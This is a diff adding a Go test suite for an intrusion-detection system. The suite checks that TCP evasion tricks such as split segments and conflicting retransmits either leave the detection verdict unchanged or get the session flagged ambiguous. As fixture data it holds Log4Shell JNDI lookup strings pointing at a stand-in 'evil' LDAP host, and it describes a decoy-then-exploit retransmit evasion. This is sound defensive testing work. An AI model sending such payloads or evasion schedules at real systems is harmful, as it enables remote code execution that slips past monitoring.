@@ -1,0 +1,480 @@
+package ids
+
+// The IDS-evasion conformance suite. For every case in the netsim evasion
+// corpus, across shard counts and seeds and both overlap policies, the scan
+// must land on exactly one of two outcomes:
+//
+//   - the verdict is identical to scanning the unimpaired baseline, or
+//   - the session is flagged Ambiguous.
+//
+// Never a silent wrong verdict. The corpus deliberately contains only cases
+// where that dichotomy is provable: lossy impairments (drops, MTU blackholes,
+// aborts) legitimately change what the wire carries and live in the
+// impairment-profile tests instead, which assert determinism and
+// sharded==serial parity rather than verdict equality.
+
+import (
+	"bytes"
+	"fmt"
+	"io"
+	"os"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"repro/internal/netsim"
+	"repro/internal/packet"
+	"repro/internal/pcapio"
+	"repro/internal/tcpasm"
+)
+
+// confAttack carries the "${jndi:" content the fixture rule fires on; the
+// decoy is an equally long request with the query overwritten by padding, so
+// overlap games can swap one for the other byte-for-byte.
+var (
+	confAttack = []byte("GET /?x=${jndi:ldap://evil/a} HTTP/1.1\r\n\r\n")
+	confStart  = time.Date(2022, 1, 5, 10, 0, 0, 0, time.UTC)
+)
+
+func confDecoy() []byte {
+	d := append([]byte(nil), confAttack...)
+	for i := len("GET /"); i < len(d)-len(" HTTP/1.1\r\n\r\n"); i++ {
+		d[i] = 'a' + byte(i%26)
+	}
+	return d
+}
+
+func conformanceCases(t testing.TB) []netsim.EvasionCase {
+	t.Helper()
+	// Boundary 12 splits inside the "${jndi:" content bytes (offsets 8..14),
+	// so tiny-segment cases cut the signature itself across segments. The
+	// idle horizon matches the assembler's default IdleTimeout.
+	cases, err := netsim.EvasionCases(confAttack, confDecoy(), 12, 10*time.Minute)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return cases
+}
+
+// conformanceShards honors the EVASION_SHARDS env override (comma-separated
+// shard counts) so the CI evasion matrix can pin one count per job; the
+// default sweeps serial plus two parallel widths.
+func conformanceShards(t testing.TB) []int {
+	env := os.Getenv("EVASION_SHARDS")
+	if env == "" {
+		return []int{1, 3, 8}
+	}
+	var out []int
+	for _, f := range strings.Split(env, ",") {
+		n, err := strconv.Atoi(strings.TrimSpace(f))
+		if err != nil || n < 1 {
+			t.Fatalf("EVASION_SHARDS: bad field %q in %q", f, env)
+		}
+		out = append(out, n)
+	}
+	return out
+}
+
+func drainSchedule(t testing.TB, src pcapio.PacketSource) []pcapio.Packet {
+	t.Helper()
+	var out []pcapio.Packet
+	for {
+		p, err := src.Next()
+		if err == io.EOF {
+			return out
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		out = append(out, p)
+	}
+}
+
+func scanFrames(t testing.TB, frames []pcapio.Packet, shards int, policy tcpasm.OverlapPolicy) ([]Event, ScanStats) {
+	t.Helper()
+	events, stats, err := ScanCaptureSharded(
+		[]pcapio.PacketSource{netsim.NewFrameSource(frames)},
+		jndiEngine(t),
+		ScanConfig{Shards: shards, Assembler: tcpasm.Config{OverlapPolicy: policy}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return events, stats
+}
+
+// verdictKey is the identity the dichotomy compares: which rule fired against
+// which session, over how many client bytes. Time is excluded — evasion
+// schedules pace frames differently than the baseline, which shifts the
+// session-start timestamp without changing the verdict.
+func verdictKey(ev Event) string {
+	return fmt.Sprintf("%s|%s|%d|%s|%s|%d", ev.Src, ev.Dst, ev.SID, ev.CVE, ev.Msg, ev.Bytes)
+}
+
+func sameVerdicts(t *testing.T, label string, got, want []Event) {
+	t.Helper()
+	if len(got) != len(want) {
+		t.Fatalf("%s: %d events, baseline has %d", label, len(got), len(want))
+	}
+	for i := range got {
+		if verdictKey(got[i]) != verdictKey(want[i]) {
+			t.Fatalf("%s: verdict %d differs:\n got %s\nwant %s",
+				label, i, verdictKey(got[i]), verdictKey(want[i]))
+		}
+	}
+}
+
+// TestEvasionConformance is the headline gate: every evasion case, under
+// every shard count, seed, and overlap policy, either reproduces the
+// baseline verdict byte-for-byte or flags the session ambiguous.
+func TestEvasionConformance(t *testing.T) {
+	cases := conformanceCases(t)
+	shards := conformanceShards(t)
+	for _, policy := range []tcpasm.OverlapPolicy{tcpasm.OverlapFirstWins, tcpasm.OverlapLastWins} {
+		for seed := int64(1); seed <= 3; seed++ {
+			for i := range cases {
+				c := &cases[i]
+				t.Run(fmt.Sprintf("%s/%s/seed%d", policy, c.Name, seed), func(t *testing.T) {
+					client, server := netsim.EvasionEndpoints(seed, i)
+					evFrames := drainSchedule(t, c.Stream(seed, client, server, confStart))
+					baseFrames := drainSchedule(t, c.BaselineStream(seed, client, server, confStart))
+
+					baseEvents, baseStats := scanFrames(t, baseFrames, 1, policy)
+					if baseStats.Sessions != 1 || baseStats.AmbiguousSessions != 0 {
+						t.Fatalf("baseline scan: %+v", baseStats)
+					}
+					// Every baseline schedule delivers the attack plainly;
+					// the rule must see it or the case proves nothing.
+					if len(baseEvents) != 1 {
+						t.Fatalf("baseline matched %d events, want 1", len(baseEvents))
+					}
+
+					for _, n := range shards {
+						events, stats := scanFrames(t, evFrames, n, policy)
+						if stats.Sessions != 1 {
+							t.Fatalf("shards=%d: %d sessions, want 1", n, stats.Sessions)
+						}
+						if c.ExpectAmbiguous {
+							// Loud arm: the verdict may go either way (it
+							// rests on the overlap policy's byte choice), but
+							// the session must be flagged — silently keeping
+							// the decoy is exactly the pre-fix failure.
+							if stats.AmbiguousSessions != 1 {
+								t.Fatalf("shards=%d: conflicting-overlap case not flagged: %+v", n, stats)
+							}
+							for _, ev := range events {
+								if !ev.Ambiguous {
+									t.Fatalf("shards=%d: matched event not flagged ambiguous: %+v", n, ev)
+								}
+							}
+						} else {
+							// Quiet arm: byte-identical verdict, no flag.
+							if stats.AmbiguousSessions != 0 {
+								t.Fatalf("shards=%d: clean case flagged ambiguous: %+v", n, stats)
+							}
+							sameVerdicts(t, fmt.Sprintf("shards=%d", n), events, baseEvents)
+						}
+					}
+				})
+			}
+		}
+	}
+}
+
+// TestEvasionConformanceCombined runs the whole corpus as one interleaved
+// capture — every hostile flow concurrently against the sharded front-end —
+// and checks the same dichotomy flow by flow.
+func TestEvasionConformanceCombined(t *testing.T) {
+	const seed = 42
+	cases := conformanceCases(t)
+	all, err := netsim.EvasionCapture(cases, seed, confStart)
+	if err != nil {
+		t.Fatal(err)
+	}
+	base, err := netsim.BaselineCapture(cases, seed, confStart)
+	if err != nil {
+		t.Fatal(err)
+	}
+	expectAmbiguous := map[string]bool{} // client endpoint -> case expectation
+	ambiguousCases := 0
+	for i := range cases {
+		client, _ := netsim.EvasionEndpoints(seed, i)
+		expectAmbiguous[client.String()] = cases[i].ExpectAmbiguous
+		if cases[i].ExpectAmbiguous {
+			ambiguousCases++
+		}
+	}
+
+	for _, policy := range []tcpasm.OverlapPolicy{tcpasm.OverlapFirstWins, tcpasm.OverlapLastWins} {
+		baseEvents, baseStats := scanFrames(t, base, 1, policy)
+		if baseStats.Sessions != len(cases) || baseStats.AmbiguousSessions != 0 {
+			t.Fatalf("%s: baseline scan: %+v", policy, baseStats)
+		}
+		if len(baseEvents) != len(cases) {
+			t.Fatalf("%s: baseline matched %d of %d flows", policy, len(baseEvents), len(cases))
+		}
+		baseline := map[string]string{} // client endpoint -> verdict
+		for _, ev := range baseEvents {
+			baseline[ev.Src.String()] = verdictKey(ev)
+		}
+
+		for _, n := range conformanceShards(t) {
+			events, stats := scanFrames(t, all, n, policy)
+			if stats.Sessions != len(cases) {
+				t.Fatalf("%s shards=%d: %d sessions, want %d", policy, n, stats.Sessions, len(cases))
+			}
+			if stats.AmbiguousSessions != ambiguousCases {
+				t.Fatalf("%s shards=%d: %d ambiguous sessions, want %d",
+					policy, n, stats.AmbiguousSessions, ambiguousCases)
+			}
+			matchedClean := map[string]bool{}
+			for _, ev := range events {
+				src := ev.Src.String()
+				if expectAmbiguous[src] {
+					if !ev.Ambiguous {
+						t.Fatalf("%s shards=%d: event on hostile flow not flagged: %+v", policy, n, ev)
+					}
+					continue
+				}
+				if ev.Ambiguous {
+					t.Fatalf("%s shards=%d: clean flow flagged ambiguous: %+v", policy, n, ev)
+				}
+				if verdictKey(ev) != baseline[src] {
+					t.Fatalf("%s shards=%d: verdict drifted from baseline:\n got %s\nwant %s",
+						policy, n, verdictKey(ev), baseline[src])
+				}
+				matchedClean[src] = true
+			}
+			for src, amb := range expectAmbiguous {
+				if !amb && !matchedClean[src] {
+					t.Fatalf("%s shards=%d: clean flow %s lost its match", policy, n, src)
+				}
+			}
+		}
+	}
+}
+
+// TestEvasionPreFixSilentMiss documents the failure this suite exists to
+// prevent. The conflicting-retransmit case sends a benign decoy and then
+// retransmits the same sequence range carrying the exploit. The pre-fix
+// reassembler kept the first copy and said nothing: verdict "no match",
+// indistinguishable from genuinely benign traffic. First-wins still keeps
+// the decoy bytes — that verdict is unchanged — but the session now comes
+// back flagged, and last-wins recovers the attack (also flagged).
+func TestEvasionPreFixSilentMiss(t *testing.T) {
+	cases := conformanceCases(t)
+	var c *netsim.EvasionCase
+	var idx int
+	for i := range cases {
+		if cases[i].Name == "conflicting-retransmit" {
+			c, idx = &cases[i], i
+			break
+		}
+	}
+	if c == nil {
+		t.Fatal("conflicting-retransmit case missing from corpus")
+	}
+	client, server := netsim.EvasionEndpoints(1, idx)
+	frames := drainSchedule(t, c.Stream(1, client, server, confStart))
+
+	// First-wins: the decoy wins the bytes, so the rule cannot fire. Before
+	// conflict detection this exact scan returned zero events and zero
+	// signal — the silent wrong verdict. The flag is the fix.
+	events, stats := scanFrames(t, frames, 1, tcpasm.OverlapFirstWins)
+	if len(events) != 0 {
+		t.Fatalf("first-wins matched %d events; decoy should mask the attack", len(events))
+	}
+	if stats.AmbiguousSessions != 1 {
+		t.Fatalf("first-wins: masked attack not flagged — the pre-fix silent miss: %+v", stats)
+	}
+
+	// Last-wins: the retransmitted exploit overwrites the decoy and matches,
+	// and the conflict is still flagged.
+	events, stats = scanFrames(t, frames, 1, tcpasm.OverlapLastWins)
+	if len(events) != 1 || events[0].CVE != "2021-44228" {
+		t.Fatalf("last-wins events = %+v, want the jndi match", events)
+	}
+	if !events[0].Ambiguous || stats.AmbiguousSessions != 1 {
+		t.Fatalf("last-wins: conflict not flagged: %+v / %+v", events[0], stats)
+	}
+}
+
+// impairmentProfiles: one profile per impairment axis plus the kitchen sink.
+// Loss, MTU blackholes, and aborts legitimately change session contents, so
+// these tests assert determinism and sharded==serial parity — not verdict
+// equality, which only the evasion corpus can promise.
+func impairmentProfiles() map[string]netsim.Profile {
+	return map[string]netsim.Profile{
+		"loss":    {Seed: 3, LossProb: 0.1},
+		"dup":     {Seed: 4, DupProb: 0.2},
+		"reorder": {Seed: 5, ReorderProb: 0.2, ReorderSpan: 3},
+		"mtu":     {Seed: 6, MTU: 200},
+		"abort":   {Seed: 7, AbortProb: 0.02},
+		"full":    {Seed: 8, LossProb: 0.05, DupProb: 0.1, ReorderProb: 0.1, ReorderSpan: 2, MTU: 400, AbortProb: 0.01},
+	}
+}
+
+// impairedCaptureFrames materializes the interleaved fixture capture once,
+// pushes it through the impairment profile, and returns the damaged frames,
+// so every scan below sees the identical byte stream.
+func impairedCaptureFrames(t testing.TB, profile netsim.Profile) []pcapio.Packet {
+	t.Helper()
+	var buf bytes.Buffer
+	w, err := pcapio.NewWriter(&buf, pcapio.LinkTypeEthernet, pcapio.WithNanoPrecision())
+	if err != nil {
+		t.Fatal(err)
+	}
+	writeInterleavedCapture(t, w, 77, 50)
+	if err := w.Flush(); err != nil {
+		t.Fatal(err)
+	}
+	r, err := pcapio.NewReader(bytes.NewReader(buf.Bytes()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return drainSchedule(t, netsim.Impair(r, profile))
+}
+
+// TestImpairedScanShardedParity: under every impairment profile, the sharded
+// scan must agree with the serial scan exactly — events, order, and stats.
+// Damage is allowed to change verdicts; disagreement between shard counts is
+// not.
+func TestImpairedScanShardedParity(t *testing.T) {
+	for name, profile := range impairmentProfiles() {
+		t.Run(name, func(t *testing.T) {
+			frames := impairedCaptureFrames(t, profile)
+			e := jndiEngine(t)
+			want, wantStats, err := ScanCapture(netsim.NewFrameSource(frames), e)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if wantStats.Sessions == 0 {
+				t.Fatal("profile destroyed every session; weak fixture")
+			}
+			for _, shards := range []int{1, 3, 8} {
+				events, stats, err := ScanCaptureSharded(
+					[]pcapio.PacketSource{netsim.NewFrameSource(frames)}, e,
+					ScanConfig{Shards: shards})
+				if err != nil {
+					t.Fatal(err)
+				}
+				diffEvents(t, events, want, stats, wantStats)
+			}
+		})
+	}
+}
+
+// duplicateTraffic builds flows that stay open (no FIN), so every duplicated
+// frame — including the last one — rejoins its still-live session. A FIN
+// that closes a session evicts it immediately; a duplicate arriving after
+// that is mid-stream pickup of an empty stub, which is correct NIDS behavior
+// but would muddy the strict no-double-count assertion below. (FIN-closing
+// flows under duplication are still covered by TestImpairedScanShardedParity's
+// dup profile.)
+func duplicateTraffic(t testing.TB, nFlows int) []pcapio.Packet {
+	t.Helper()
+	bld := packet.NewBuilder(31)
+	ts := time.Date(2022, 2, 1, 0, 0, 0, 0, time.UTC)
+	var frames []pcapio.Packet
+	emit := func(seg packet.Segment) {
+		frame, err := bld.Build(seg)
+		if err != nil {
+			t.Fatal(err)
+		}
+		frames = append(frames, pcapio.Packet{Timestamp: ts, Data: frame, OrigLen: len(frame)})
+		ts = ts.Add(3 * time.Millisecond)
+	}
+	for i := 0; i < nFlows; i++ {
+		cli := packet.Endpoint{Addr: packet.MustAddr(fmt.Sprintf("203.0.113.%d", 1+i%250)), Port: uint16(41000 + i)}
+		srv := packet.Endpoint{Addr: packet.MustAddr("10.0.0.1"), Port: 8080}
+		payload := fmt.Sprintf("GET /robots%d.txt HTTP/1.1\r\nHost: h\r\n\r\n", i)
+		if i%3 == 0 {
+			payload = fmt.Sprintf("GET /?x=${jndi:ldap://e%d/a} HTTP/1.1\r\nHost: h\r\n\r\n", i)
+		}
+		seq := uint32(1000 * (i + 1))
+		emit(packet.Segment{Src: cli, Dst: srv, Seq: seq, Flags: packet.FlagSYN})
+		emit(packet.Segment{Src: srv, Dst: cli, Seq: 7000, Ack: seq + 1, Flags: packet.FlagSYN | packet.FlagACK})
+		emit(packet.Segment{Src: cli, Dst: srv, Seq: seq + 1, Ack: 7001, Flags: packet.FlagPSH | packet.FlagACK, Payload: []byte(payload)})
+	}
+	return frames
+}
+
+// TestDuplicateFramesStreamedScan: exact duplicate frames are retransmits
+// that agree byte-for-byte, so a dup-heavy profile must change nothing —
+// same sessions, same verdicts, no ambiguity, and no double-counting in the
+// streaming scan's order-independent stats.
+func TestDuplicateFramesStreamedScan(t *testing.T) {
+	frames := duplicateTraffic(t, 40)
+	e := jndiEngine(t)
+	want, wantStats, err := ScanCapture(netsim.NewFrameSource(frames), e)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(want) == 0 {
+		t.Fatal("fixture matched nothing")
+	}
+
+	duped := drainSchedule(t, netsim.Impair(netsim.NewFrameSource(frames), netsim.Profile{Seed: 9, DupProb: 0.5}))
+	if len(duped) <= len(frames) {
+		t.Fatalf("dup profile added nothing: %d frames from %d", len(duped), len(frames))
+	}
+
+	var got []Event
+	stats, err := ScanCaptureStreamed(
+		[]pcapio.PacketSource{netsim.NewFrameSource(duped)}, e,
+		ScanConfig{Shards: 3},
+		func(batch []Event) error { got = append(got, batch...); return nil })
+	if err != nil {
+		t.Fatal(err)
+	}
+	if stats.Sessions != wantStats.Sessions {
+		t.Fatalf("duplicates changed session count: %d, clean scan saw %d", stats.Sessions, wantStats.Sessions)
+	}
+	if stats.MatchedEvents != wantStats.MatchedEvents || len(got) != len(want) {
+		t.Fatalf("duplicates changed verdict count: %d/%d events, want %d", stats.MatchedEvents, len(got), len(want))
+	}
+	if stats.AmbiguousSessions != 0 {
+		t.Fatalf("agreeing duplicates flagged ambiguous: %+v", stats)
+	}
+	// Streaming emission is completion-ordered; compare as multisets.
+	wantKeys := map[string]int{}
+	for _, ev := range want {
+		wantKeys[verdictKey(ev)]++
+	}
+	for _, ev := range got {
+		wantKeys[verdictKey(ev)]--
+	}
+	for k, n := range wantKeys {
+		if n != 0 {
+			t.Fatalf("verdict multiset drifted at %s (off by %d)", k, n)
+		}
+	}
+}
+
+// BenchmarkImpairedScan measures the full scan over a capture damaged by the
+// kitchen-sink profile — the cost of reassembly doing real work (gap
+// tracking, retransmit handling, overlap comparison) instead of the happy
+// path.
+func BenchmarkImpairedScan(b *testing.B) {
+	frames := impairedCaptureFrames(b, netsim.Profile{
+		Seed: 8, LossProb: 0.05, DupProb: 0.1, ReorderProb: 0.1, ReorderSpan: 2, MTU: 400, AbortProb: 0.01,
+	})
+	var total int64
+	for _, f := range frames {
+		total += int64(len(f.Data))
+	}
+	e := jndiEngine(b)
+	b.SetBytes(total)
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		_, stats, err := ScanCaptureSharded(
+			[]pcapio.PacketSource{netsim.NewFrameSource(frames)}, e,
+			ScanConfig{Shards: 4})
+		if err != nil {
+			b.Fatal(err)
+		}
+		if stats.Sessions == 0 {
+			b.Fatal("no sessions scanned")
+		}
+	}
+}
